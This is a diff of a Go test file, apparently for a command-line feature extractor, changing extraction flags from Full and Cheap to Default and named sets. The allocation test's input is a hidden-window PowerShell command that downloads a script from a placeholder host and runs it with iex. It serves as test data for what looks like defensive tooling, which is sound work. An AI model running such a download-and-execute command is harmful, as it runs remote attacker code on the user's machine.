@@ -89,9 +89,9 @@ func TestNamesDoNotChangeBuckets(t *testing.T) {
 	for _, tt := range goldenInputs {
 		fast.Reset(&tt.in)
 		slow.Reset(&tt.in)
-		fast.Extract(Cheap)
-		fast.Extract(Full | Set(Context)) // incremental extraction
-		slow.Extract(Full | Set(Context))
+		fast.Extract(Set(Word, Struct))
+		fast.Extract(Default | Set(Context)) // incremental extraction
+		slow.Extract(Default | Set(Context))
 		for g := Group(0); g < NumGroups; g++ {
 			if !slices.Equal(fast.Buckets(g), slow.Buckets(g)) {
 				t.Errorf("%s %s: buckets differ", tt.name, g)
@@ -173,8 +173,8 @@ func TestExtractAllocs(t *testing.T) {
 	x := New(20)
 	in := &Input{Cmdline: bytes.Repeat([]byte(`powershell -nop -w hidden -c "iex (new-object net.webclient).downloadstring('http://x/a')" `), 3)}
 	x.Reset(in)
-	x.Extract(Full)
-	if n := testing.AllocsPerRun(100, func() { x.Reset(in); x.Extract(Full) }); n != 0 {
+	x.Extract(Default)
+	if n := testing.AllocsPerRun(100, func() { x.Reset(in); x.Extract(Default) }); n != 0 {
 		t.Errorf("Extract allocates %v times per row", n)
 	}
 }
